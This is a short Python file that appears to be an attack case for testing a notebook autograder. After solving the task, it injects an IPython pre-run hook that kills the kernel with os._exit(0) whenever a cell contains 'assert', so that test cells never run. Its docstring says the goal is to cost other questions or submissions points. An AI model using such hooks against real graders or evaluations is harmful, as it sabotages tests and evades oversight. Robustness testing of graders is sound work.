"""The child ends in every test, so that it is started again and again.

Success: another question or a neighbor loses points, or the class stops.
"""

ALONE = True
DESERVES = ["square", "standardize", "total", "words", "distance", "root", "primes"]


def attack(submission):
    submission.solve()
    submission.first("""
        import os

        def end(info):
            if "assert" in info.raw_cell:
                os._exit(0)

        get_ipython().events.register("pre_run_cell", end)
    """)
